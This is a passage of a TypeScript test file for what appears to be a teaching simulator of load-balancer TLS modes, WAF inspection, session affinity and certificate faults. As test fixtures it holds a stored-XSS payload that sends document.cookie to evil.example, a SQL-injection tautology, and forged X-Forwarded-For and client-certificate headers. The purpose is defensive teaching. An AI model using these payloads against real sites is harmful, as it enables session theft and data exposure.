/**
 * Every scenario in every mode, asserted by the outcome a learner should see: which backend served each request,
 * the cart the client ended with, the WAF's verdicts, the client address each backend believed, where the keys
 * live, the load per backend, cache hits, compression, who answered a redirect, whether the client gave up, and
 * the TLS alerts. One row per scenario id (a new scenario without a row fails the coverage test), plus a compact
 * golden digest per run. Protocol detail (bytes, sessions, observers) is in modes.test.ts and failures.test.ts.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { MODES, SCENARIOS, findScenario, generateLabPki } from '../../src/sim/engine';
import { createRunCache, eventsOf, segments, type CachedRun } from './helpers/runCache';
import type { CertName, KeyName, LabPki, Mode, RunOptions, RunSummary, Timeline } from '../../src/sim/engine';

const CLIENT_IP = '203.0.113.10';
const LB_INTERNAL_IP = '10.0.0.1';
const NAT_IP = '203.0.113.50';
const MOBILE_IP = '192.0.2.77';
const FULL_CART = ['blue-mug', 'lab-notebook'];
const L7: readonly Mode[] = ['offload', 'bridge'];

let pki: LabPki;
const cachedRun = createRunCache(() => pki, 1);

/** One run per (scenario, mode, options), shared by every test that reads it. */
function run(scenarioId: string, mode: Mode, options: Partial<RunOptions> = {}): CachedRun {
  const scenario = findScenario(scenarioId);
  if (!scenario) throw new Error(`no scenario ${scenarioId}`);
  return cachedRun(scenario, mode, options);
}

beforeAll(async () => {
  pki = await generateLabPki();
});

// ---------------------------------------------------------------------------------------------------------------
// Helpers: each reads one outcome from a run.

const servedBy = (s: RunSummary): Array<string | null> => s.backendPerRequest.map((r) => r.servedBy);
const alertsSent = (t: Timeline): Array<[string, string]> => eventsOf(t, 'tls.alertSent').map((e) => [e.node, e.detail.alert]);
/** "backend-1 POST /login 200" for every request a backend's application handled. */
const handled = (t: Timeline): string[] => eventsOf(t, 'http.requestHandled').map((e) => `${e.node} ${e.detail.method} ${e.detail.target} ${e.detail.status}`);
const believedIps = (s: RunSummary): string[] => s.backendSawClientIpPerRequest.map((r) => r.clientIp);
const load = (b1: number, b2: number, b3: number): Record<string, number> => ({ 'backend-1': b1, 'backend-2': b2, 'backend-3': b3 });
/** The JSON body of the client's i-th response (in arrival order, redirects included). */
function jsonBody(t: Timeline, i: number): Record<string, unknown> {
  const r = t.client.responses[i];
  if (!r) throw new Error(`no response #${i}`);
  return JSON.parse(r.body) as Record<string, unknown>;
}

/** Nothing went wrong: settled, no alert, no parse failure, the client never gave up. */
function expectClean({ t, s }: CachedRun): void {
  expect(t.settled).toBe(true);
  expect(alertsSent(t)).toEqual([]);
  expect(eventsOf(t, 'parse.failed')).toEqual([]);
  expect(eventsOf(t, 'client.gaveUp')).toEqual([]);
  expect(s.failures).toEqual([]);
}

/** Passthrough: the WAF was handed only TLS records, for every request that reached the LB. */
function expectBlindWaf(s: RunSummary, count: number): void {
  expect(s.wafVerdicts).toHaveLength(count);
  for (const v of s.wafVerdicts) {
    expect(v).toMatchObject({ inspected: false, blocked: false, ruleIds: [] });
    expect(v.reason).toBe('tls-record');
  }
}

/** Layer 7: the WAF read every request in plaintext and let it through. */
function expectCleanWaf(s: RunSummary, count: number): void {
  expect(s.wafVerdicts).toEqual(Array.from({ length: count }, () => expect.objectContaining({ inspected: true, blocked: false, ruleIds: [] })));
}

/** None of the HTTP-only features happened (a layer-4 LB cannot do any of them). */
function expectNoHttpFeatures(t: Timeline): void {
  for (const type of ['lb.cacheHit', 'lb.cacheStored', 'lb.compressed', 'lb.redirected', 'waf.blocked', 'waf.inspected', 'waf.rateLimited', 'lb.headerAdded'] as const) {
    expect(eventsOf(t, type), type).toEqual([]);
  }
}

/** Every backend's application believed the same client address. */
function expectBelieved(s: RunSummary, ip: string, source: RegExp): void {
  expect(s.backendSawClientIpPerRequest.length).toBeGreaterThan(0);
  for (const r of s.backendSawClientIpPerRequest) {
    expect(r.clientIp).toBe(ip);
    expect(r.source).toMatch(source);
  }
  expect(s.backendSawClientIp).toBe(ip);
}
const TCP_PEER = /^tcp peer$/;
const TRUSTED_XFF = /^x-forwarded-for from trusted proxy$/;

/** A certificate fault: the client refuses the handshake; in passthrough a backend presented it, otherwise the LB. */
function expectRefusedCertificate(alert: string) {
  return (mode: Mode) => ({ t, s }: CachedRun): void => {
    expect(alertsSent(t)).toEqual([['client', alert]]);
    const receiver = mode === 'passthrough' ? 'backend-1' : 'lb';
    expect(eventsOf(t, 'tls.alertReceived').map((e) => [e.node, e.detail.alert])).toEqual([[receiver, alert]]);
    expect(s.responses).toEqual([]);
    expect(eventsOf(t, 'client.gaveUp')).toHaveLength(1);
    expect(eventsOf(t, 'http.requestHandled')).toEqual([]);
    // Passthrough opened the connection to a backend before any certificate was seen; a terminating LB never did.
    expect(s.backendLoad).toEqual(mode === 'passthrough' ? load(1, 0, 0) : load(0, 0, 0));
  };
}

type Check = (r: CachedRun) => void;
type Row = Readonly<Record<Mode, Check>>;
const both = (check: Check): Pick<Row, 'offload' | 'bridge'> => ({ offload: check, bridge: check });
const each = (check: (mode: Mode) => Check): Row => ({ passthrough: check('passthrough'), offload: check('offload'), bridge: check('bridge') });

// ---------------------------------------------------------------------------------------------------------------
// The table: one row per scenario, one check per mode.

const OUTCOMES: Readonly<Record<string, Row>> = {
  basic: {
    passthrough: (r) => {
      expectClean(r);
      // One keep-alive connection: one backend, counted once (layer 4 counts connections).
      expect(servedBy(r.s)).toEqual(Array(4).fill('backend-1'));
      expect(r.s.backendLoad).toEqual(load(1, 0, 0));
      expect(r.s.cart).toEqual(['blue-mug']);
      expectBlindWaf(r.s, 4);
      expectBelieved(r.s, LB_INTERNAL_IP, TCP_PEER);
      expectNoHttpFeatures(r.t);
    },
    ...both((r) => {
      expectClean(r);
      expect(servedBy(r.s)).toEqual(Array(4).fill('backend-1'));
      expect(r.s.backendLoad).toEqual(load(4, 0, 0)); // layer 7 counts requests
      expect(r.s.cart).toEqual(['blue-mug']);
      expectCleanWaf(r.s, 4);
      expectBelieved(r.s, CLIENT_IP, TRUSTED_XFF);
    }),
  },

  cart: {
    passthrough: (r) => {
      expectClean(r);
      // keepAlive off + round robin: each request is a new connection, and no cookie can pin it.
      expect(r.s.backendPerRequest.map((b) => [b.status, b.servedBy])).toEqual([[200, 'backend-1'], [401, 'backend-2'], [401, 'backend-3'], [200, 'backend-1']]);
      expect(new Set(servedBy(r.s)).size).toBeGreaterThan(1);
      expect(r.s.cart).toEqual([]);
      expect(r.s.cart).not.toEqual(FULL_CART);
      expect(jsonBody(r.t, 1).error).toMatch(/never saw your login/);
      expect(r.s.backendLoad).toEqual(load(2, 1, 1));
      expect(eventsOf(r.t, 'lb.routed').map((e) => [e.detail.input, e.detail.basis])).toEqual(Array(4).fill(['sni', 'round-robin']));
      expectBlindWaf(r.s, 4);
      expectBelieved(r.s, LB_INTERNAL_IP, TCP_PEER);
    },
    ...both((r) => {
      expectClean(r);
      expect(r.s.responses).toEqual([200, 200, 200, 200]);
      expect(new Set(servedBy(r.s))).toEqual(new Set(['backend-1']));
      expect(r.s.cart).toEqual(FULL_CART);
      expect(r.s.backendLoad).toEqual(load(4, 0, 0));
      expect(eventsOf(r.t, 'lb.routed').map((e) => e.detail.basis)).toEqual(['round-robin', 'cookie', 'cookie', 'cookie']);
      expectCleanWaf(r.s, 4);
      expectBelieved(r.s, CLIENT_IP, TRUSTED_XFF);
    }),
  },

  'cart-source-ip': {
    passthrough: (r) => {
      expectClean(r);
      expect(r.s.responses).toEqual([200, 200, 200, 200]);
      expect(new Set(servedBy(r.s)).size).toBe(1);
      expect(r.s.cart).toEqual(FULL_CART);
      expect(r.s.backendLoad).toEqual(load(4, 0, 0)); // four connections, all hashed to one backend
      expect(eventsOf(r.t, 'lb.routed').map((e) => [e.detail.input, e.detail.basis])).toEqual(Array(4).fill(['sni', 'source-ip-hash']));
      expectBlindWaf(r.s, 4);
    },
    ...both((r) => {
      expectClean(r);
      expect(new Set(servedBy(r.s)).size).toBe(1);
      expect(r.s.cart).toEqual(FULL_CART);
      expect(r.s.backendLoad).toEqual(load(4, 0, 0));
    }),
  },

  'mobile-handover': {
    passthrough: (r) => {
      expectClean(r);
      // The address hash follows the address: after the move, a backend that never saw the login.
      expect(r.s.backendPerRequest.map((b) => [b.status, b.servedBy])).toEqual([[200, 'backend-1'], [200, 'backend-1'], [401, 'backend-3'], [401, 'backend-3']]);
      const viewCart = r.t.client.responses.at(-1)!;
      expect(viewCart.status).toBe(401);
      expect(viewCart.servedBy).not.toBe(r.t.client.responses[0]!.servedBy);
      // The notebook was never added anywhere the client can see, and the final look at the cart failed.
      expect(r.t.client.responses.some((res) => res.status === 200 && res.body.includes('lab-notebook'))).toBe(false);
      expect(eventsOf(r.t, 'lb.routed').map((e) => (e.detail.pick?.algorithm === 'source-ip-hash' ? e.detail.pick.sourceIp : null))).toEqual([
        CLIENT_IP, CLIENT_IP, MOBILE_IP, MOBILE_IP,
      ]);
      expectBelieved(r.s, LB_INTERNAL_IP, TCP_PEER);
    },
    ...both((r) => {
      expectClean(r);
      // The cookie follows the user across addresses.
      expect(r.s.responses).toEqual([200, 200, 200, 200]);
      expect(new Set(servedBy(r.s))).toEqual(new Set(['backend-1']));
      expect(r.s.cart).toEqual(FULL_CART);
      expect(believedIps(r.s)).toEqual([CLIENT_IP, CLIENT_IP, MOBILE_IP, MOBILE_IP]);
    }),
  },

  'nat-pileup': {
    passthrough: (r) => {
      expectClean(r);
      // Six users, one public address, source-IP affinity: everything on one backend.
      expect(r.s.responses).toEqual(Array(18).fill(200));
      expect(new Set(servedBy(r.s))).toEqual(new Set(['backend-3']));
      expect(r.s.backendLoad).toEqual(load(0, 0, 18));
      expect(eventsOf(r.t, 'lb.routed').every((e) => e.detail.pick?.algorithm === 'source-ip-hash' && e.detail.pick.sourceIp === NAT_IP)).toBe(true);
      expectBelieved(r.s, LB_INTERNAL_IP, TCP_PEER);
      expectBlindWaf(r.s, 18);
      // Each user's own session still holds their own cart (the problem is load, not state).
      const carts = r.t.client.responses.slice(12);
      expect(carts.map((c) => c.client)).toEqual(['ana', 'ben', 'chen', 'dora', 'emil', 'fay']);
      for (const c of carts) expect((JSON.parse(c.body) as { items: string[] }).items).toEqual(['blue-mug']);
    },
    ...both((r) => {
      expectClean(r);
      expect(r.s.responses).toEqual(Array(18).fill(200));
      expect(r.s.backendLoad).toEqual(load(6, 6, 6));
      expect(new Set(servedBy(r.s)).size).toBe(3);
      // Each user stays on the backend that holds their session, and sees their own cart.
      const byClient = new Map<string, Set<string | null>>();
      for (const b of r.s.backendPerRequest) byClient.set(b.client, (byClient.get(b.client) ?? new Set()).add(b.servedBy));
      expect(byClient.size).toBe(6);
      for (const backends of byClient.values()) expect(backends.size).toBe(1);
      for (const c of r.t.client.responses.slice(12)) expect((JSON.parse(c.body) as { items: string[] }).items).toEqual(['blue-mug']);
      expectBelieved(r.s, NAT_IP, TRUSTED_XFF);
    }),
  },

  'pool-routing': {
    passthrough: (r) => {
      expectClean(r);
      // SNI separates the hostnames; the path is encrypted, so shop.example.com/api/status lands in the web pool.
      expect(handled(r.t)).toEqual(['backend-1 GET / 200', 'backend-2 GET /api/status 200', 'backend-3 GET /api/status 200']);
      expect(servedBy(r.s)).toEqual(['backend-1', 'backend-2', 'backend-3']);
      const pools = eventsOf(r.t, 'lb.routed').map((e) => e.detail.pool);
      // The path is encrypted: the LB routes /api/status by the SNI shop.example.com, to the web pool.
      expect(pools[1]).toEqual({ pool: 'web', by: 'sni', name: 'shop.example.com' });
      expect(pools[2]).toEqual({ pool: 'api', by: 'sni', name: 'api.example.com' });
    },
    ...both((r) => {
      expectClean(r);
      // The LB reads the path: both /api/status requests go to the API pool (backend-3).
      expect(handled(r.t)).toEqual(['backend-1 GET / 200', 'backend-3 GET /api/status 200', 'backend-3 GET /api/status 200']);
      expect(servedBy(r.s)).toEqual(['backend-1', 'backend-3', 'backend-3']);
      expect(r.s.backendLoad).toEqual(load(1, 0, 2));
      const pools = eventsOf(r.t, 'lb.routed').map((e) => e.detail.pool);
      expect(pools[1]).toEqual({ pool: 'api', by: 'path', path: '/api/status' });
    }),
  },

  sqli: {
    passthrough: (r) => {
      expectClean(r);
      expect(r.s.responses).toEqual([200, 200]);
      expectBlindWaf(r.s, 2);
      expect(eventsOf(r.t, 'waf.blocked')).toEqual([]);
      // The injection reached the application and its database: the tautology returns every row.
      expect(handled(r.t)[1]).toBe("backend-1 GET /search?q=%27%20OR%20%271%27%3D%271 200");
      const body = jsonBody(r.t, 1);
      expect(body.note).toBe('injection reached the database');
      expect(body.sql).toContain("OR '1'='1");
      expect(r.t.backendLogs['backend-1'].map((l) => l.note)).toContain('injection reached the database');
    },
    ...both((r) => {
      expectClean(r);
      expect(r.s.backendPerRequest.map((b) => [b.status, b.servedBy])).toEqual([[200, 'backend-1'], [403, null]]);
      expect(r.s.wafVerdicts.map((v) => [v.inspected, v.blocked])).toEqual([[true, false], [true, true]]);
      const rules = r.s.wafVerdicts[1]!.ruleIds;
      expect(rules.length).toBeGreaterThan(0);
      for (const id of rules) expect(String(id)).toMatch(/^942\d{3}$/);
      // The backend never saw the attack.
      expect(handled(r.t)).toEqual(['backend-1 GET /search?q=mug 200']);
      for (const log of Object.values(r.t.backendLogs)) expect(log.some((l) => l.note === 'injection reached the database')).toBe(false);
    }),
  },

  xss: {
    passthrough: (r) => {
      expectClean(r);
      expect(r.s.responses).toEqual([200, 200]);
      expectBlindWaf(r.s, 2);
      expect(handled(r.t)[0]).toBe('backend-1 POST /comment 200');
      // Stored and echoed unsanitized: the script is in the page the shop returns.
      expect(r.t.client.responses[0]!.body).toContain("<script>fetch('https://evil.example/?c='+document.cookie)</script>");
      expect(r.t.backendLogs['backend-1'][0]!.note).toBe('comment stored unsanitized');
    },
    ...both((r) => {
      expectClean(r);
      expect(r.s.backendPerRequest.map((b) => [b.status, b.servedBy])).toEqual([[403, null], [200, 'backend-1']]);
      expect(r.s.wafVerdicts.map((v) => [v.inspected, v.blocked])).toEqual([[true, true], [true, false]]);
      const rules = r.s.wafVerdicts[0]!.ruleIds;
      expect(rules.length).toBeGreaterThan(0);
      for (const id of rules) expect(String(id)).toMatch(/^941\d{3}$/);
      expect(handled(r.t)).toEqual(['backend-1 GET / 200']);
      expect(r.t.client.responses.some((res) => res.body.includes('<script>'))).toBe(false);
    }),
  },

  'login-burst': {
    passthrough: (r) => {
      expectClean(r);
      // One keep-alive connection carries all six guesses: one connection to count, so nothing is limited.
      expect(r.s.responses).toEqual(Array(6).fill(200));
      expect(eventsOf(r.t, 'waf.rateLimited')).toEqual([]);
      expect(handled(r.t)).toHaveLength(6);
      expect(r.s.backendLoad).toEqual(load(1, 0, 0));
      expectBlindWaf(r.s, 6);
    },
    ...both((r) => {
      expectClean(r);
      expect(r.s.backendPerRequest.map((b) => [b.status, b.servedBy])).toEqual([
        [200, 'backend-1'], [200, 'backend-2'], [200, 'backend-3'], [429, null], [429, null], [429, null],
      ]);
      const limited = eventsOf(r.t, 'waf.rateLimited');
      expect(limited.map((e) => [e.detail.scope, e.detail.limit, e.detail.key])).toEqual(Array(3).fill(['request', 3, `${CLIENT_IP} POST /login`]));
      // Only the first three guesses reach a backend.
      expect(handled(r.t)).toHaveLength(3);
      expect(r.t.client.responses[3]!.headers.some(([name]) => name.toLowerCase() === 'retry-after')).toBe(true);
    }),
  },

  'static-cache': {
    passthrough: (r) => {
      expectClean(r);
      // Both requests reach the backend and come back as the backend sent them: no cache, no gzip.
      expect(handled(r.t)).toEqual(['backend-1 GET /static/app.css 200', 'backend-1 GET /static/app.css 200']);
      expectNoHttpFeatures(r.t);
      for (const res of r.t.client.responses) expect(res.headers.some(([name]) => name.toLowerCase() === 'content-encoding')).toBe(false);
    },
    ...both((r) => {
      expectClean(r);
      expect(r.s.responses).toEqual([200, 200]);
      // The second request is answered from the LB's cache: the backend handles only the first.
      expect(handled(r.t)).toEqual(['backend-1 GET /static/app.css 200']);
      expect(eventsOf(r.t, 'lb.cacheStored').map((e) => e.detail.key)).toEqual(['shop.example.com/static/app.css']);
      expect(eventsOf(r.t, 'lb.cacheHit').map((e) => e.detail.key)).toEqual(['shop.example.com/static/app.css']);
      const gzip = eventsOf(r.t, 'lb.compressed');
      expect(gzip).toHaveLength(2);
      for (const e of gzip) {
        expect(e.detail.encoding).toBe('gzip');
        expect(e.detail.after).toBeLessThan(e.detail.before);
      }
      for (const res of r.t.client.responses) expect(res.headers).toContainEqual(['Content-Encoding', 'gzip']);
      expect(r.t.client.responses[1]!.headers).toContainEqual(['X-Cache', 'HIT']);
      expect(r.s.backendLoad).toEqual(load(1, 0, 0));
    }),
  },

  'http-redirect': {
    passthrough: (r) => {
      expectClean(r);
      // The LB forwards port 80 blind; a backend answers the 301, then the https retry goes to another.
      expect(eventsOf(r.t, 'lb.redirected')).toEqual([]);
      expect(handled(r.t)[0]).toBe('backend-1 GET / 301');
      expect(r.s.backendPerRequest.map((b) => [b.status, b.servedBy])).toEqual([[301, 'backend-1'], [200, 'backend-2']]);
      expect(r.t.client.responses[0]!.headers).toContainEqual(['Location', 'https://shop.example.com/']);
      expect(eventsOf(r.t, 'lb.routed')[0]!.detail.input).toBe('port-80');
    },
    ...both((r) => {
      expectClean(r);
      // The LB reads the cleartext request and redirects it itself; no backend sees the port-80 request.
      expect(eventsOf(r.t, 'lb.redirected').map((e) => e.detail)).toEqual([{ location: 'https://shop.example.com/', status: 301 }]);
      expect(r.s.backendPerRequest.map((b) => [b.status, b.servedBy])).toEqual([[301, null], [200, 'backend-1']]);
      expect(handled(r.t)).toEqual(['backend-1 GET / 200']);
    }),
  },

  'client-ip': {
    passthrough: (r) => {
      expectClean(r);
      expectBelieved(r.s, LB_INTERNAL_IP, TCP_PEER);
      expect(jsonBody(r.t, 0)).toMatchObject({ clientIp: LB_INTERNAL_IP, source: 'tcp peer', xForwardedFor: null });
      expect(eventsOf(r.t, 'lb.proxyHeaderSent')).toEqual([]);
    },
    ...both((r) => {
      expectClean(r);
      expectBelieved(r.s, CLIENT_IP, TRUSTED_XFF);
      expect(jsonBody(r.t, 0)).toMatchObject({ clientIp: CLIENT_IP, xForwardedFor: CLIENT_IP, peerAddress: LB_INTERNAL_IP });
    }),
  },

  'proxy-mismatch': {
    passthrough: ({ t, s }) => {
      // The backend's TLS stack reads the PROXY v2 signature ("\r\n\r\n..."): content type 13 is no TLS record type.
      expect(t.settled).toBe(true);
      expect(eventsOf(t, 'lb.proxyHeaderSent').map((e) => ({ version: e.detail.version, source: e.detail.source }))).toEqual([{ version: 2, source: CLIENT_IP }]);
      expect(s.responses).toEqual([]);
      expect(eventsOf(t, 'client.gaveUp')).toHaveLength(1);
      expect(alertsSent(t)).toEqual([['backend-1', 'unexpected_message']]);
      expect(eventsOf(t, 'http.requestHandled')).toEqual([]);
    },
    ...both((r) => {
      // PROXY protocol is a layer-4 setting; a terminating LB speaks HTTP to the backend and is unaffected.
      expectClean(r);
      expect(r.s.responses).toEqual([200]);
      expect(eventsOf(r.t, 'lb.proxyHeaderSent')).toEqual([]);
      expectBelieved(r.s, CLIENT_IP, TRUSTED_XFF);
    }),
  },

  'xff-forged': {
    passthrough: (r) => {
      expectClean(r);
      // The forged header arrives untouched over a connection from the LB, a trusted peer: it is believed.
      expectBelieved(r.s, '6.6.6.6', TRUSTED_XFF);
      expect(jsonBody(r.t, 0)).toMatchObject({ clientIp: '6.6.6.6', peerAddress: LB_INTERNAL_IP, xForwardedFor: '6.6.6.6' });
    },
    ...both((r) => {
      expectClean(r);
      // The LB appends the real address; the backend trusts only the right-most entry.
      expectBelieved(r.s, CLIENT_IP, TRUSTED_XFF);
      expect(jsonBody(r.t, 0)).toMatchObject({ clientIp: CLIENT_IP, xForwardedFor: `6.6.6.6, ${CLIENT_IP}` });
    }),
  },

  mtls: {
    passthrough: (r) => {
      expectClean(r);
      // The backend ran the TLS handshake and verified alice's certificate itself; the LB holds no session.
      const backendHandshakes = eventsOf(r.t, 'tls.handshakeCompleted').filter((e) => e.node.startsWith('backend-'));
      expect(backendHandshakes.map((e) => [e.node, e.detail.peerCertificate])).toEqual([['backend-1', 'alice']]);
      expect(eventsOf(r.t, 'tls.handshakeCompleted').filter((e) => e.node === 'lb')).toEqual([]);
      expect(r.t.client.responses[0]).toMatchObject({ status: 200, servedBy: 'backend-1' });
      expect(jsonBody(r.t, 0)).toMatchObject({ subject: 'alice', certSource: 'backend tls handshake' });
      // The direct port-80 request is redirected to https by the backend (it terminates TLS itself).
      expect(handled(r.t)).toContain('backend-2 GET /account 301');
      expect(r.t.client.responses.some((res) => res.body.includes('CN=admin'))).toBe(false);
    },
    offload: (r) => {
      expectClean(r);
      // The LB verified the certificate and told the backend in a header, over the cleartext internal leg.
      expect(eventsOf(r.t, 'tls.handshakeCompleted').filter((e) => e.node === 'lb').map((e) => e.detail.peerCertificate)).toEqual(['alice']);
      const toBackend = segments(r.t).filter((seg) => seg.link === 'internal' && seg.from === 'lb').map((seg) => seg.views['backend-1']?.plaintext ?? '').join('');
      expect(toBackend).toMatch(/\r\nX-SSL-Client-Cert-Subject: CN=alice\r\n/i);
      expect(r.t.client.responses[0]).toMatchObject({ status: 200, servedBy: 'backend-1' });
      expect(jsonBody(r.t, 0)).toMatchObject({ subject: 'CN=alice', certSource: 'x-ssl-client-cert-subject from trusted proxy' });
      // The attacker's forged header straight to backend-2 comes from an untrusted peer: ignored, 403.
      expect(r.s.backendPerRequest[1]).toMatchObject({ status: 403, servedBy: 'backend-2' });
      const refused = jsonBody(r.t, 1);
      expect(refused.certSource).toMatch(/UNTRUSTED/);
      expect(refused.certSource).toMatch(/ignored/);
      expect(r.s.backendSawClientIpPerRequest[1]).toMatchObject({ backend: 'backend-2', clientIp: CLIENT_IP, source: 'tcp peer' });
    },
    bridge: (r) => {
      expectClean(r);
      expect(eventsOf(r.t, 'tls.handshakeCompleted').filter((e) => e.node === 'lb' && e.detail.peer === 'client').map((e) => e.detail.peerCertificate)).toEqual(['alice']);
      expect(jsonBody(r.t, 0)).toMatchObject({ subject: 'CN=alice', certSource: 'x-ssl-client-cert-subject from trusted proxy' });
      // Port 80 on a bridging backend redirects to https; the retry through the LB carries alice's verified identity.
      expect(handled(r.t)).toContain('backend-2 GET /account 301');
      expect(jsonBody(r.t, 2)).toMatchObject({ subject: 'CN=alice' });
      expect(r.t.client.responses.some((res) => res.body.includes('CN=admin'))).toBe(false);
    },
  },

  'redirect-loop': {
    passthrough: (r) => {
      // The backend terminated TLS itself: the request arrived over https, no redirect.
      expectClean(r);
      expect(r.s.backendPerRequest.map((b) => [b.status, b.servedBy])).toEqual([[200, 'backend-1']]);
    },
    offload: ({ t, s }) => {
      expect(t.settled).toBe(true);
      // The original request plus five redirects, all 301 from backends that see plain HTTP; then the client gives up.
      expect(s.responses).toEqual(Array(6).fill(301));
      expect(servedBy(s)).toEqual(['backend-1', 'backend-2', 'backend-3', 'backend-1', 'backend-2', 'backend-3']);
      expect(eventsOf(t, 'lb.redirected')).toEqual([]);
      expect(eventsOf(t, 'client.gaveUp').map((e) => e.detail.reason)).toEqual([{ code: 'too-many-redirects', limit: 5 }]);
      expect(s.failures).toHaveLength(1);
      expect(alertsSent(t)).toEqual([]);
    },
    bridge: (r) => {
      expectClean(r);
      expect(r.s.backendPerRequest.map((b) => [b.status, b.servedBy])).toEqual([[200, 'backend-1']]);
    },
  },

  tamper: each((mode) => ({ t, s }) => {
    // Detail (alert codes, who received what) is in failures.test.ts.
    expect(alertsSent(t)).toEqual([[mode === 'passthrough' ? 'backend-1' : 'lb', 'bad_record_mac']]);
    expect(s.responses).toEqual([]);
    expect(eventsOf(t, 'client.gaveUp')).toHaveLength(1);
  }),

  'tamper-internal': {
    passthrough: ({ t, s }) => {
      // One TLS session end to end: the backend's MAC check catches the change.
      expect(segments(t).filter((seg) => seg.tampered).map((seg) => seg.link)).toEqual(['internal']);
      expect(alertsSent(t)).toEqual([['backend-1', 'bad_record_mac']]);
      expect(s.responses).toEqual([]);
      expect(eventsOf(t, 'client.gaveUp')).toHaveLength(1);
      expect(eventsOf(t, 'http.requestHandled')).toEqual([]);
    },
    offload: (r) => {
      // Cleartext inside: the flipped byte goes unnoticed and the backend signs in "alicd".
      expectClean(r);
      expect(segments(r.t).filter((seg) => seg.tampered).map((seg) => seg.link)).toEqual(['internal']);
      expect(r.s.responses).toEqual([200, 200]);
      expect(r.t.client.responses[0]!.body).toContain('Signed in as alicd');
      expect(jsonBody(r.t, 1)).toMatchObject({ user: 'alicd' });
      expect(r.t.backendLogs['backend-1'][0]!.note).toMatch(/^login alicd /);
    },
    bridge: ({ t, s }) => {
      // The second TLS session catches it: backend-1 rejects the record, the LB answers 502.
      expect(t.settled).toBe(true);
      expect(alertsSent(t)).toEqual([['backend-1', 'bad_record_mac']]);
      expect(eventsOf(t, 'tls.alertReceived').map((e) => [e.node, e.detail.alert])).toEqual([['lb', 'bad_record_mac']]);
      expect(eventsOf(t, 'lb.backendRejected').map((e) => [e.detail.backend, e.detail.status])).toEqual([['backend-1', 502]]);
      expect(s.backendPerRequest[0]).toMatchObject({ status: 502, servedBy: null });
      expect(handled(t).some((h) => h.includes('/login'))).toBe(false);
      for (const log of Object.values(t.backendLogs)) expect(log.some((l) => l.note?.includes('alicd'))).toBe(false);
    },
  },

  'wrong-host': each(expectRefusedCertificate('bad_certificate')),
  'untrusted-ca': each(expectRefusedCertificate('unknown_ca')),
  expired: each(expectRefusedCertificate('certificate_expired')),

  'impostor-backend': {
    // The fault is defined for bridging (Faults.impostorBackend): the other modes run as usual.
    passthrough: (r) => {
      expectClean(r);
      expect(servedBy(r.s)).toEqual(['backend-1', 'backend-2', 'backend-3']);
    },
    offload: (r) => {
      expectClean(r);
      expect(servedBy(r.s)).toEqual(['backend-1', 'backend-2', 'backend-3']);
    },
    bridge: ({ t, s }) => {
      expect(s.backendPerRequest.map((b) => [b.status, b.servedBy])).toEqual([[200, 'backend-1'], [502, null], [200, 'backend-3']]);
      expect(alertsSent(t)).toEqual([['lb', 'unknown_ca']]);
      expect(eventsOf(t, 'lb.backendRejected').map((e) => e.detail.backend)).toEqual(['backend-2']);
      expect(s.backendLoad).toEqual(load(1, 1, 1));
      expect(s.keyLocations['backend-2']).toEqual([expect.objectContaining({ key: 'rogueCa', certificate: 'impostorBackend' })]);
    },
  },

  'impostor-unverified': {
    passthrough: (r) => {
      expectClean(r);
      expect(r.s.responses).toEqual([200, 200, 200]);
    },
    offload: (r) => {
      expectClean(r);
      expect(r.s.responses).toEqual([200, 200, 200]);
    },
    bridge: (r) => {
      // proxy_ssl_verify off: the impostor's certificate is accepted and it serves the request.
      expectClean(r);
      expect(servedBy(r.s)).toEqual(['backend-1', 'backend-2', 'backend-3']);
      expect(eventsOf(r.t, 'tls.handshakeCompleted').filter((e) => e.node === 'lb' && e.detail.peer === 'backend-2').map((e) => e.detail.peerCertificate))
        .toEqual(['backend-2.internal']);
      expect(r.s.keyLocations['backend-2']).toEqual([expect.objectContaining({ key: 'rogueCa', certificate: 'impostorBackend' })]);
    },
  },

  'split-hello': {
    passthrough: (r) => {
      expectClean(r);
      expect(eventsOf(r.t, 'lb.sniRead').map((e) => e.detail.serverName)).toEqual(['shop.example.com']);
      expect(r.s.backendPerRequest).toEqual([expect.objectContaining({ status: 200, servedBy: 'backend-1' })]);
    },
    ...both((r) => {
      expectClean(r);
      expect(r.s.responses).toEqual([200]);
    }),
  },

  'split-hello-naive': {
    passthrough: ({ t, s }) => {
      expect(eventsOf(t, 'parse.failed').map((e) => [e.node, e.detail.what, e.detail.code])).toEqual([['lb', 'client-hello', 'unreadable-client-hello']]);
      expect(eventsOf(t, 'parse.failed')[0]!.detail).toMatchObject({ diagnostic: expect.stringMatching(/first segment/) });
      expect(s.responses).toEqual([]);
      expect(eventsOf(t, 'client.gaveUp')).toHaveLength(1);
      expect(segments(t).filter((seg) => seg.link === 'internal')).toEqual([]);
      expect(s.backendLoad).toEqual(load(0, 0, 0));
    },
    // A terminating LB reassembles the stream as any TLS server does.
    ...both((r) => {
      expectClean(r);
      expect(r.s.responses).toEqual([200]);
    }),
  },

  'not-tls': each((mode) => ({ t, s }) => {
    // Detail in failures.test.ts: the LB stops it in every mode; nothing reaches a backend.
    expect(s.responses).toEqual([]);
    expect(eventsOf(t, 'client.gaveUp')).toHaveLength(1);
    expect(s.backendLoad).toEqual(load(0, 0, 0));
    if (mode === 'passthrough') expect(eventsOf(t, 'parse.failed').map((e) => e.node)).toEqual(['lb']);
    else expect(alertsSent(t)).toEqual([['lb', 'unexpected_message']]);
  }),

  // The modern-TLS lessons run the version they name (scenario options); modernLessons.test.ts compares versions.
  'tls13-hidden-certificate': {
    passthrough: (r) => {
      expectClean(r);
      expect(eventsOf(r.t, 'lb.sniRead').map((e) => [e.detail.serverName, e.detail.alpn])).toEqual([['shop.example.com', ['http/1.1']]]);
      expect(eventsOf(r.t, 'lb.serverHandshakeSeen').map((e) => [e.detail.version, e.detail.certificateSubject])).toEqual([['TLS 1.3', null]]);
      expectBlindWaf(r.s, 1);
    },
    ...both((r) => {
      expectClean(r);
      expect(r.s.responses).toEqual([200]);
      expect(eventsOf(r.t, 'lb.serverHandshakeSeen')).toEqual([]);
    }),
  },

  'stolen-key': each(() => (r) => {
    // TLS 1.1 (RSA key transport): the leaked site key opens the recording on the internet link in every mode.
    expectClean(r);
    expect(r.t.client.responses.map((c) => c.status)).toEqual([200]);
    expect(r.s.observers['eve-internet']).toBe(true);
  }),

  'ech-breaks-sni-routing': {
    passthrough: (r) => {
      expectClean(r);
      // The API call was routed on the outer name into the web pool.
      expect(servedBy(r.s)).toEqual(['backend-1', 'backend-2']);
      expect(eventsOf(r.t, 'lb.sniRead').map((e) => [e.detail.serverName, e.detail.encryptedClientHello])).toEqual([['public.example.com', true], ['public.example.com', true]]);
    },
